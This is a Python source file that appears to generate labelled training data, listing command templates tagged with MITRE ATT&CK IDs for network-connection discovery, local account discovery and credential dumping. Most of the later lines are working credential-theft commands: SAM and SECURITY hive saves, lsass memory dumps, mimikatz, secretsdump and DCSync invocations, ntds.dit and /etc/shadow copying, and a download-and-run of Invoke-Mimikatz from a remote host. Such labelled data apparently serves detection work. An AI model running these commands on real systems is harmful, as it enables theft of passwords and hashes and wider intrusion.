"""Classic one-liners of connections, of local accounts and of credential dumping."""

from __future__ import annotations

from training.generators.grammar import parse_templates

CLASSIC_ACCESS_LINES = parse_templates(
    r"""
# T1049
ac-netstat cmd +T1049: netstat
ac-netstat-a cmd +T1049: netstat -a
ac-netstat-ano cmd +T1049: netstat -ano
ac-netstat-anb cmd +T1049: netstat -anb
ac-netstat-an-find cmd +T1049: netstat -an | find "ESTABLISHED"
ac-netstat-ano-findstr cmd +T1049: netstat -ano | findstr /i listening
ac-netstat-f cmd +T1049: netstat -f
ac-netstat-anop-tcp cmd +T1049: netstat -anop «tcp¦udp¦TCPv6»
ac-netstat-ano-findstr-n2 cmd +T1049: netstat -ano | findstr :‹port›
ac-netstat-nao cmd +T1049: netstat -nao ‹n›
ac-net-session cmd +T1049: net session
ac-net-use cmd +T1049: net use
ac-net-file cmd +T1049: net file
ac-nbtstat-s cmd +T1049: nbtstat -S
ac-nbtstat-s-n2 cmd +T1049: nbtstat -s
ac-netsh-interface-ipv4 cmd +T1049: netsh interface ipv4 show tcpconnections
ac-netsh-interface-ipv6 cmd +T1049: netsh interface ipv6 show tcpconnections
ac-wmic-netuse-get cmd +T1049: wmic netuse get localname,remotename,connectionstate
ac-wmic-namespace-root cmd +T1049: wmic /namespace:\\root\standardcimv2 path MSFT_NetTCPConnection get LocalPort,RemoteAddress,State
ac-wmic-path-win32 cmd +T1049: wmic path Win32_ServerConnection get ComputerName,ShareName,UserName
ac-wmic-path-win32-n2 cmd +T1049: wmic path Win32_ServerSession get ComputerName,UserName,ActiveTime
ac-openfiles-query-fo cmd +T1049: openfiles /query /fo csv
ac-cscript-nologo-e cmd +T1049: cscript //nologo //e:vbscript ‹dir›\‹name›.vbs "SELECT LocalAddress,RemoteAddress FROM MSFT_NetTCPConnection"
ac-mshta-vbscript-execute cmd +T1218.005: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c netstat -ano > C:\Users\Public\‹name›.txt"",0:close")
ac-python-import-psutil cmd +T1049: python -c "import psutil; print(psutil.net_connections())"
ac-python-import-subprocess cmd +T1049: python -c "import subprocess; print(subprocess.check_output(['netstat','-ano']).decode())"
ac-tcpvcon64-accepteula-a cmd +T1049: tcpvcon64.exe -accepteula -a -n
ac-cports-scomma cmd +T1049: cports.exe /scomma ‹file›
ac-wsl-ss-tnp cmd +T1049: wsl ss -tnp
ac-perl-e-print cmd +T1049: perl -e "print `netstat -an`"
ac-for-f-tokens cmd +T1049: for /f "tokens=3,5" %a in ('netstat -ano ^| findstr ESTABLISHED') do @echo %a %b
ac-get-nettcpconnection powershell +T1049: Get-NetTCPConnection
ac-get-nettcpconnection-state powershell +T1049: Get-NetTCPConnection -State «Established¦Listen»
ac-get-nettcpconnection-sort powershell +T1049: Get-NetTCPConnection | Sort-Object LocalPort | Format-Table -AutoSize
ac-get-nettcpconnection-select powershell +T1049: Get-NetTCPConnection | Select-Object LocalAddress,LocalPort,RemoteAddress,RemotePort,State,OwningProcess
ac-get-nettcpconnection-remoteport powershell +T1049: Get-NetTCPConnection -RemotePort ‹port› | ft RemoteAddress,OwningProcess
ac-get-nettcpconnection-select-n2 powershell +T1049: Get-NetTCPConnection | select *,@{n='Process';e={(Get-Process -Id $_.OwningProcess).Name}}
ac-get-netudpendpoint-select powershell +T1049: Get-NetUDPEndpoint | select LocalAddress,LocalPort,OwningProcess
ac-system-net-networkinformation powershell +T1049: [System.Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveTcpConnections()
ac-system-net-networkinformation-n2 powershell +T1049: [System.Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveTcpListeners()
ac-net-networkinformation-ipglobalproperties powershell +T1049: [Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveUdpListeners() | ft Address,Port
ac-get-ciminstance-namespace powershell +T1049: Get-CimInstance -Namespace root/StandardCimv2 -ClassName MSFT_NetTCPConnection
ac-get-wmiobject-namespace powershell +T1049: Get-WmiObject -Namespace root\standardcimv2 -Class MSFT_NetTCPConnection | select RemoteAddress,RemotePort
ac-gwmi-win32-serverconnection powershell +T1049: gwmi Win32_ServerConnection | select UserName,ComputerName,ShareName
ac-get-ciminstance-win32 powershell +T1049: Get-CimInstance Win32_NetworkConnection
ac-get-smbconnection-ft powershell +T1049: Get-SmbConnection | ft ServerName,ShareName,UserName
ac-get-smbsession-select powershell +T1049: Get-SmbSession | select ClientComputerName,ClientUserName
ac-get-smbopenfile-select powershell +T1049: Get-SmbOpenFile | select ClientUserName,Path
ac-get-netsession-computername powershell +T1049: Get-NetSession -ComputerName ‹server›
ac-new-object-comobject powershell +T1049: (New-Object -ComObject WScript.Network).EnumNetworkDrives()
ac-netstat-ano-select powershell +T1049: netstat -ano | Select-String ESTABLISHED | % { ($_ -split '\s+')[3] }
ac-invoke-command-computername powershell +T1049: Invoke-Command -ComputerName ‹server› -ScriptBlock { Get-NetTCPConnection -State Established }
ac-netstat-tunap bash +T1049: netstat -tunap
ac-netstat-ant bash +T1049: netstat -ant
ac-netstat-plnt bash +T1049: netstat -plnt
ac-ss bash +T1049: ss
ac-ss-tulwn bash +T1049: ss -tulwn
ac-ss-tan-state bash +T1049: ss -tan state established
ac-ss-antup-grep bash +T1049: ss -antup | grep ESTAB
ac-lsof-i bash +T1049: lsof -i
ac-lsof-np-itcp bash +T1049: lsof -nP -iTCP -sTCP:LISTEN
ac-lsof-i-p bash +T1049: lsof -i -P -n | grep ESTABLISHED
ac-lsof-i-n2 bash +T1049: lsof -i :‹port›
ac-cat-proc-net bash +T1049: cat /proc/net/tcp
ac-awk-nr-1 bash +T1049: awk 'NR>1{print $2,$3,$4}' /proc/net/tcp
ac-cut-d-f5 bash +T1049: cut -d' ' -f5-6 /proc/net/tcp6
ac-sed-1d-proc bash +T1049: sed 1d /proc/net/udp
ac-grep-v-local bash +T1049: grep -v local_address /proc/net/tcp | awk '{print $3}'
ac-head-50-proc bash +T1049: head -50 /proc/net/unix
ac-fuser-v-n bash +T1049: fuser -v -n tcp ‹port›
ac-conntrack-l bash +T1049: conntrack -L
ac-showmount-a bash +T1049: showmount -a
ac-smbstatus-s bash +T1049: smbstatus -S
ac-python3-import-psutil bash +T1049: python3 -c "import psutil;[print(c) for c in psutil.net_connections('inet')]"
ac-perl-ne-print bash +T1049: perl -ne 'print if / 0A /' /proc/net/tcp
ac-perl-e-print-n2 bash +T1049: perl -e 'print `ss -ant`'
ac-ruby-e-puts bash +T1049: ruby -e 'puts File.read("/proc/net/tcp")'
ac-netstat-an-awk bash +T1049: netstat -an | awk '/tcp/ {print $5}' | sort -u
ac-watch-n-5 bash +T1049: watch -n 5 'ss -tnp'
# T1087.001
ac-net-user cmd +T1087.001: net user
ac-net-users cmd +T1087.001: net users
ac-net-user-administrator cmd +T1087.001: net user administrator
ac-net-user-guest cmd +T1087.001: net user guest
ac-net1-user cmd +T1087.001: net1 user
ac-net-user-n2 cmd +T1087.001: net user ‹user›
ac-wmic-useraccount-get cmd +T1087.001: wmic useraccount get name
ac-wmic-useraccount-get-n2 cmd +T1087.001: wmic useraccount get name,sid,disabled
ac-wmic-useraccount-where cmd +T1087.001: wmic useraccount where "localaccount='true'" get name,lockout,passwordrequired
ac-wmic-useraccount-list cmd +T1087.001: wmic useraccount list full
ac-wmic-node-useraccount cmd +T1087.001: wmic /node:‹server› useraccount list brief
ac-wmic-path-win32-n3 cmd +T1087.001: wmic path Win32_UserProfile get LocalPath,SID
ac-reg-query-hklm cmd +T1087.001: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList" /s
ac-cmd-net-user cmd +T1087.001: cmd /c net user > ‹file›
ac-net-user-more cmd +T1087.001: net user | more
ac-cscript-nologo-vbs cmd +T1087.001: cscript //nologo ‹dir›\‹name›.vbs "WinNT://." user
ac-mshta-vbscript-execute-n2 cmd +T1218.005: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c net user > C:\Users\Public\‹name›.txt"",0:close")
ac-python-import-win32net cmd +T1087.001: python -c "import win32net; print(win32net.NetUserEnum(None,0))"
ac-python-import-subprocess-n2 cmd +T1087.001: python -c "import subprocess; print(subprocess.getoutput('net user'))"
ac-perl-mwin32-netadmin cmd +T1087.001: perl -MWin32::NetAdmin -e "Win32::NetAdmin::GetUsers('','',\@u); print @u"
ac-psexec64-accepteula-net cmd +T1087.001: PsExec64.exe -accepteula \\‹server› net user
ac-wsl-cat-etc cmd +T1087.001: wsl cat /etc/passwd
ac-get-localuser powershell +T1087.001: Get-LocalUser
ac-get-localuser-select powershell +T1087.001: Get-LocalUser | Select-Object Name,Enabled,LastLogon
ac-get-localuser-enabled powershell +T1087.001: Get-LocalUser | ? Enabled | ft Name,SID
ac-glu-fl powershell +T1087.001: glu | fl *
ac-get-wmiobject-class powershell +T1087.001: Get-WmiObject -Class Win32_UserAccount
ac-get-wmiobject-win32 powershell +T1087.001: Get-WmiObject Win32_UserAccount -Filter "LocalAccount=True" | select Name,SID
ac-gwmi-win32-useraccount powershell +T1087.001: gwmi win32_useraccount | ft name,disabled
ac-get-ciminstance-classname powershell +T1087.001: Get-CimInstance -ClassName Win32_UserAccount -Filter "LocalAccount='True'"
ac-gcim-win32-useraccount powershell +T1087.001: gcim Win32_UserAccount | select Caption,Disabled
ac-get-ciminstance-win32-n2 powershell +T1087.001: Get-CimInstance Win32_UserProfile | select LocalPath,LastUseTime
ac-adsi-winnt-env powershell +T1087.001: ([ADSI]"WinNT://$env:COMPUTERNAME").Children | ? SchemaClassName -eq 'user' | % Name
ac-adsi-winnt-psbase powershell +T1087.001: ([ADSI]'WinNT://.').PSBase.Children | where {$_.PSBase.SchemaClassName -match 'user'}
ac-adsi-winnt-computer powershell +T1087.001: [ADSI]"WinNT://‹server›,computer" | % { $_.Children } | ? { $_.SchemaClassName -eq 'User' }
ac-add-type-assemblyname powershell +T1087.001: Add-Type -AssemblyName System.DirectoryServices.AccountManagement; $c=[DirectoryServices.AccountManagement.PrincipalContext]::new('Machine'); ([DirectoryServices.AccountManagement.PrincipalSearcher]::new([DirectoryServices.AccountManagement.UserPrincipal]::new($c))).FindAll()
ac-get-itemproperty-hklm powershell +T1087.001: Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList\*' | select ProfileImagePath
ac-get-netlocaluser powershell +T1087.001: Get-LocalUser * | select Name,Description,PasswordLastSet
ac-invoke-command-get powershell +T1087.001: Invoke-Command ‹server› { Get-LocalUser }
ac-get-wmiobject-query powershell +T1087.001: Get-WmiObject -Query "SELECT Name,SID FROM Win32_UserAccount WHERE LocalAccount=TRUE"
ac-cat-etc-passwd bash +T1087.001: cat /etc/passwd
ac-less-etc-passwd bash +T1087.001: less /etc/passwd
ac-getent-passwd bash +T1087.001: getent passwd
ac-cut-d-f1 bash +T1087.001: cut -d: -f1 /etc/passwd
ac-awk-f-print bash +T1087.001: awk -F: '{print $1}' /etc/passwd
ac-awk-f-3 bash +T1087.001: awk -F: '$3>=1000 {print $1,$6,$7}' /etc/passwd
ac-awk-f-3-n2 bash +T1087.001: awk -F: '($3 == 0) {print $1}' /etc/passwd
ac-sed-s-etc bash +T1087.001: sed 's/:.*//' /etc/passwd
ac-grep-v-nologin bash +T1087.001: grep -v nologin /etc/passwd
ac-grep-e-bin bash +T1087.001: grep -E '/bin/(ba)?sh$' /etc/passwd
ac-grep-x-0 bash +T1087.001: grep 'x:0:' /etc/passwd
ac-getent-passwd-cut bash +T1087.001: getent passwd | cut -d: -f1,3
ac-compgen-u bash +T1087.001: compgen -u
ac-lastlog bash +T1087.001: lastlog
ac-lslogins-u bash +T1087.001: lslogins -u
ac-python3-import-pwd bash +T1087.001: python3 -c "import pwd; print([p.pw_name for p in pwd.getpwall()])"
ac-perl-ne-f bash +T1087.001: perl -ne '@f=split /:/; print "$f[0]\n"' /etc/passwd
ac-perl-e-while bash +T1087.001: perl -e 'while(@p=getpwent){print "$p[0]\n"}'
ac-ruby-retc-e bash +T1087.001: ruby -retc -e 'Etc.passwd{|u| puts u.name}'
ac-tail-n-20 bash +T1087.001: tail -n 20 /etc/passwd
ac-sort-t-k3 bash +T1087.001: sort -t: -k3 -n /etc/passwd
ac-while-ifs-read bash +T1087.001: while IFS=: read -r u x i r; do echo "$u $i"; done < /etc/passwd
# T1003.002
ac-reg-save-hklm cmd +T1003.002: reg save HKLM\SAM sam.save
ac-reg-save-hklm-n2 cmd +T1003.002: reg save HKLM\SAM ‹file›
ac-reg-save-hklm-n3 cmd +T1003.002: reg.exe save hklm\sam ‹dir›\sam.hive /y
ac-reg-save-hkey cmd +T1003.002: reg save HKEY_LOCAL_MACHINE\SAM C:\Windows\Temp\‹name›.tmp
ac-reg-export-hklm cmd +T1003.002: reg export HKLM\SAM ‹file›
ac-reg-save-hklm-n4 cmd +T1003.002: reg save \\‹server›\HKLM\SAM ‹dir›\‹name›
ac-reg-save-hklm-n5 cmd +T1003.002: reg save HKLM\SAM ‹dir›\sam & reg save HKLM\SYSTEM ‹dir›\system
ac-copy-windows-system32 cmd +T1003.002: copy ‹vss›\Windows\System32\config\SAM ‹file›
ac-esentutl-y-vss cmd +T1003.002: esentutl /y /vss C:\Windows\System32\config\SAM /d ‹file›
ac-robocopy-b-windows cmd +T1003.002: robocopy /b C:\Windows\System32\config ‹dir› SAM SYSTEM
ac-type-windows-system32 cmd +T1003.002: type ‹vss›\Windows\System32\config\SAM > ‹file›
ac-mklink-d-copy cmd +T1003.002: mklink /d C:\‹name› ‹vss›\ & copy C:\‹name›\Windows\System32\config\SAM ‹dir›
ac-mimikatz-privilege-debug cmd +T1003.002: mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" "exit"
ac-mimikatz-lsadump-sam text +T1003.002: mimikatz # lsadump::sam /system:SYSTEM /sam:SAM
ac-pwdump7 cmd +T1003.002: pwdump7.exe > ‹file›
ac-pwdump8-f-system cmd +T1003.002: pwdump8.exe -f ‹dir›\SYSTEM ‹dir›\SAM
ac-fgdump-w cmd +T1003.002: fgdump.exe -c -w
ac-gsecdump-s cmd +T1003.002: gsecdump.exe -s
ac-samdump2-system-sam cmd +T1003.002: samdump2.exe SYSTEM SAM
ac-rawcopy-filenamepath-windows cmd +T1003.002: RawCopy.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:‹dir›
ac-vssown-vbs-create cmd +T1003.002: vssown.vbs /create c & copy ‹vss›\Windows\System32\config\SAM ‹dir›
ac-wmic-process-call cmd +T1003.002: wmic process call create "reg save HKLM\SAM C:\Windows\Temp\‹name›"
ac-psexec64-accepteula-s cmd +T1003.002: PsExec64.exe -accepteula -s reg save HKLM\SAM ‹file›
ac-reg-query-hklm-n2 cmd +T1003.002: reg query HKLM\SAM\SAM\Domains\Account\Users /s
ac-python-secretsdump-py cmd +T1003.002: python secretsdump.py -sam ‹dir›\SAM -system ‹dir›\SYSTEM LOCAL
ac-python-import-shutil cmd +T1003.002: python -c "import shutil; shutil.copy(r'\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\SAM', r'C:\Users\Public\‹name›')"
ac-python-import-os cmd +T1003.002: python -c "import os; os.system('reg save HKLM\\SAM ‹name›.hiv')"
ac-cscript-nologo-vbs-n2 cmd +T1003.002: cscript //nologo ‹dir›\‹name›.vbs reg save HKLM\SAM C:\Users\Public\‹name›
ac-diskshadow-s-txt cmd +T1003.002: diskshadow /s ‹dir›\‹name›.txt & copy Z:\Windows\System32\config\SAM ‹dir›
ac-reg-save-hklm-n6 powershell +T1003.002: reg save HKLM\SAM $env:TEMP\‹name›
ac-copy-item-windows powershell +T1003.002: Copy-Item '‹vss›\Windows\System32\config\SAM' ‹dir›\‹name›
ac-system-io-file powershell +T1003.002: [System.IO.File]::Copy('‹vss›\Windows\System32\config\SAM','‹dir›\‹name›')
ac-invoke-ninjacopy-path powershell +T1003.002: Invoke-NinjaCopy -Path C:\Windows\System32\config\SAM -LocalDestination ‹dir›\‹name›
ac-invoke-mimikatz-command powershell +T1003.002: Invoke-Mimikatz -Command '"token::elevate" "lsadump::sam"'
ac-invoke-powerdump-out powershell +T1003.002: Invoke-PowerDump | Out-File ‹dir›\‹name›.txt
ac-get-passhashes powershell +T1003.002: Get-PassHashes
ac-gwmi-list-win32 powershell +T1003.002: (gwmi -List Win32_ShadowCopy).Create('C:\','ClientAccessible'); cmd /c copy ‹vss›\Windows\System32\config\SAM ‹dir›
ac-get-childitem-hklm powershell +T1003.002: Get-ChildItem HKLM:\SAM\SAM\Domains\Account\Users
ac-start-process-reg powershell +T1003.002: Start-Process reg.exe -ArgumentList 'save HKLM\SAM ‹dir›\‹name›.hiv' -WindowStyle Hidden
ac-invoke-wmimethod-class powershell +T1003.002: Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'reg save HKLM\SAM C:\Windows\Temp\‹name›' -ComputerName ‹server›
ac-samdump2-system-sam-n2 bash +T1003.002: samdump2 SYSTEM SAM
ac-secretsdump-py-sam bash +T1003.002: secretsdump.py -sam sam.save -system system.save LOCAL
ac-impacket-secretsdump-sam bash +T1003.002: impacket-secretsdump -sam SAM -system SYSTEM LOCAL
ac-impacket-reg-save bash +T1003.002: impacket-reg ‹domain›/‹user›:'‹pass›'@‹ip› save -keyName 'HKLM\SAM' -o '\\‹ip›\share'
ac-nxc-smb-u bash +T1003.002: nxc smb ‹ip› -u ‹user› -p '‹pass›' --sam
ac-crackmapexec-smb-u bash +T1003.002: crackmapexec smb ‹ip› -u Administrator -H ‹hash› --local-auth --sam
ac-pypykatz-registry-sam bash +T1003.002: pypykatz registry --sam SAM SYSTEM
ac-chntpw-l-mnt bash +T1003.002: chntpw -l /mnt/‹name›/Windows/System32/config/SAM
ac-bkhive-system-tmp bash +T1003.002: bkhive SYSTEM /tmp/‹name›; samdump2 SAM /tmp/‹name›
ac-creddump7-pwdump-py bash +T1003.002: creddump7/pwdump.py SYSTEM SAM
ac-cp-mnt-windows bash +T1003.002: cp /mnt/‹name›/Windows/System32/config/SAM /tmp/
# T1003.001
ac-procdump-ma-lsass cmd +T1003.001: procdump -ma lsass.exe lsass.dmp
ac-procdump64-accepteula-ma cmd +T1003.001: procdump64.exe -accepteula -ma lsass.exe ‹dir›\‹name›.dmp
ac-procdump-ma-lsass-n2 cmd +T1003.001: procdump -ma lsass
ac-procdump-accepteula-r cmd +T1003.001: procdump.exe -accepteula -r -ma ‹pid› lsass.dmp
ac-rundll32-comsvcs-dll cmd +T1003.001: rundll32.exe comsvcs.dll, MiniDump ‹pid› lsass.dmp full
ac-rundll32-windows-system32 cmd +T1003.001: rundll32 C:\Windows\System32\comsvcs.dll MiniDump ‹pid› ‹dir›\‹name›.dmp full
ac-rundll32-windows-system32-n2 cmd +T1003.001: rundll32.exe C:\Windows\System32\comsvcs.dll,#24 ‹pid› ‹dir›\‹name›.bin full
ac-mimikatz-sekurlsa-logonpasswords cmd +T1003.001: mimikatz.exe "sekurlsa::logonpasswords" exit
ac-mimikatz-sekurlsa-logonpasswords-n2 text +T1003.001: mimikatz # sekurlsa::logonpasswords
ac-mimikatz-privilege-debug-n2 cmd +T1003.001: mimikatz "privilege::debug" "sekurlsa::wdigest"
ac-mimikatz-sekurlsa-minidump cmd +T1003.001: mimikatz.exe "sekurlsa::minidump lsass.dmp" "sekurlsa::logonPasswords full"
ac-mimikatz-privilege-debug-n3 cmd +T1003.001: mimikatz.exe privilege::debug sekurlsa::ekeys exit
ac-mimikatz-sekurlsa-tickets cmd +T1003.001: mimikatz.exe "sekurlsa::tickets /export" exit
ac-sqldumper-0-0x01100 cmd +T1003.001: sqldumper.exe ‹pid› 0 0x01100:40
ac-rdrleakdiag-p-o cmd +T1003.001: rdrleakdiag.exe /p ‹pid› /o ‹dir› /fullmemdmp /wait 1
ac-tttracer-dumpfull-attach cmd +T1003.001: tttracer.exe -dumpFull -attach ‹pid›
ac-createdump-n-lsass cmd +T1003.001: createdump.exe -n lsass.dmp ‹pid› --full
ac-nanodump-x64-write cmd +T1003.001: nanodump.x64.exe --write ‹dir›\‹name›.dmp
ac-wce-w cmd +T1003.001: wce.exe -w
ac-wce-l-o cmd +T1003.001: wce.exe -l -o ‹file›
ac-dumpert cmd +T1003.001: Dumpert.exe
ac-sharpdump cmd +T1003.001: SharpDump.exe ‹pid›
ac-safetykatz cmd +T1003.001: safetykatz.exe
ac-pypykatz-live-lsa cmd +T1003.001: pypykatz.exe live lsa
ac-pypykatz-lsa-minidump cmd +T1003.001: pypykatz.exe lsa minidump lsass.dmp
ac-processhacker-ctype-process cmd +T1003.001: ProcessHacker.exe -c -ctype process -cobject lsass.exe -caction dump
ac-wmic-process-call-n2 cmd +T1003.001: wmic process call create "rundll32 comsvcs.dll MiniDump ‹pid› C:\Windows\Temp\‹name› full"
ac-psexec-s-procdump cmd +T1003.001: PsExec.exe -s procdump.exe -accepteula -ma lsass.exe C:\‹name›.dmp
ac-python-from-pypykatz cmd +T1003.001: python -c "from pypykatz.pypykatz import pypykatz; print(pypykatz.parse_minidump_file('lsass.dmp'))"
ac-reg-add-hklm cmd +T1003.001: reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f & procdump -ma lsass.exe ‹file›
ac-get-process-lsass powershell +T1003.001: Get-Process lsass | Out-Minidump
ac-out-minidump-process powershell +T1003.001: Out-Minidump -Process (Get-Process lsass) -DumpFilePath ‹dir›
ac-invoke-mimikatz powershell +T1003.001: Invoke-Mimikatz
ac-invoke-mimikatz-dumpcreds powershell +T1003.001: Invoke-Mimikatz -DumpCreds
ac-invoke-mimikatz-command-n2 powershell +T1003.001: Invoke-Mimikatz -Command '"sekurlsa::logonpasswords"'
ac-rundll32-windows-system32-n3 powershell +T1003.001: rundll32 C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id ‹dir›\‹name›.dmp full
ac-procdump64-accepteula-ma-n2 powershell +T1003.001: .\procdump64.exe -accepteula -ma (gps lsass).Id ‹name›.dmp
ac-p-ps-lsass powershell +T1003.001: $p=(ps lsass).Id; rundll32 comsvcs.dll,#24 $p $env:TEMP\‹name›.tmp full
ac-iex-new-object powershell +T1003.001: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-Mimikatz.ps1'); Invoke-Mimikatz
ac-import-module-invoke powershell +T1003.001: Import-Module .\Invoke-SafetyDump.ps1; Invoke-SafetyDump
ac-pypykatz-lsa-minidump-n2 bash +T1003.001: pypykatz lsa minidump lsass.dmp
ac-pypykatz-lsa-minidump-n3 bash +T1003.001: pypykatz lsa minidump /tmp/‹name›.dmp -o /tmp/‹name›.txt
ac-lsassy-u-p bash +T1003.001: lsassy -u ‹user› -p '‹pass›' ‹ip›
ac-nxc-smb-u-n2 bash +T1003.001: nxc smb ‹ip› -u ‹user› -H ‹hash› -M lsassy
ac-crackmapexec-smb-u-n2 bash +T1003.001: crackmapexec smb ‹ip› -u ‹user› -p '‹pass›' -M mimikatz
ac-crackmapexec-smb-u-n3 bash +T1003.001: crackmapexec smb ‹ip› -u ‹user› -p '‹pass›' -M nanodump
# T1003.003
ac-ntdsutil-ac-i cmd +T1003.003: ntdsutil "ac i ntds" "ifm" "create full C:\temp" q q
ac-vssadmin-create-shadow cmd +T1003.003: vssadmin create shadow /for=C: & copy ‹vss›\Windows\NTDS\ntds.dit ‹dir›
ac-esentutl-y-vss-n2 cmd +T1003.003: esentutl /y /vss C:\Windows\NTDS\ntds.dit /d ‹file›
ac-copy-windows-ntds cmd +T1003.003: copy ‹vss›\Windows\NTDS\ntds.dit C:\‹name›\ntds.dit
ac-secretsdump-py-ntds bash +T1003.003: secretsdump.py -ntds ntds.dit -system SYSTEM LOCAL
ac-nxc-smb-u-n3 bash +T1003.003: nxc smb ‹ip› -u ‹user› -p '‹pass›' --ntds
# T1003.004
ac-reg-save-hklm-n7 cmd +T1003.004: reg save HKLM\SECURITY security.save
ac-mimikatz-token-elevate cmd +T1003.004: mimikatz.exe "token::elevate" "lsadump::secrets" exit
ac-reg-query-hklm-n3 cmd +T1003.004: reg query HKLM\SECURITY\Policy\Secrets
# T1003.005
ac-mimikatz-token-elevate-n2 cmd +T1003.005: mimikatz.exe "token::elevate" "lsadump::cache" exit
ac-reg-save-hklm-n8 cmd +T1003.005: reg save HKLM\SECURITY\Cache ‹file›
# T1003.006
ac-mimikatz-lsadump-dcsync cmd +T1003.006: mimikatz.exe "lsadump::dcsync /user:krbtgt" exit
ac-mimikatz-lsadump-dcsync-n2 cmd +T1003.006: mimikatz.exe "lsadump::dcsync /domain:‹fqdn› /all /csv" exit
ac-secretsdump-py-just bash +T1003.006: secretsdump.py -just-dc ‹domain›/‹user›@‹ip›
ac-impacket-secretsdump-just bash +T1003.006: impacket-secretsdump -just-dc-user krbtgt ‹fqdn›/‹user›:'‹pass›'@‹ip›
# T1003.007
ac-gcore-o-tmp bash +T1003.007: gcore -o /tmp/‹name› $(pidof sshd)
ac-cat-proc-maps bash +T1003.007: cat /proc/‹pid›/maps | grep heap; dd if=/proc/‹pid›/mem of=/tmp/‹name› bs=1 skip=94000000 count=1000000
ac-mimipenguin-sh bash +T1003.007: ./mimipenguin.sh
ac-python3-mimipenguin-py bash +T1003.007: python3 mimipenguin.py
ac-strings-proc-mem bash +T1003.007: strings /proc/‹pid›/mem | grep -i pass
# T1003.008
ac-cat-etc-shadow bash +T1003.008: cat /etc/shadow
ac-unshadow-etc-passwd bash +T1003.008: unshadow /etc/passwd /etc/shadow > /tmp/‹name›
ac-cp-etc-shadow bash +T1003.008: cp /etc/shadow /tmp/‹name›
ac-grep-6-etc bash +T1003.008: grep '\$6\$' /etc/shadow
ac-awk-f-2 bash +T1003.008: awk -F: '$2 ~ /^\$/ {print $1,$2}' /etc/shadow
"""
)
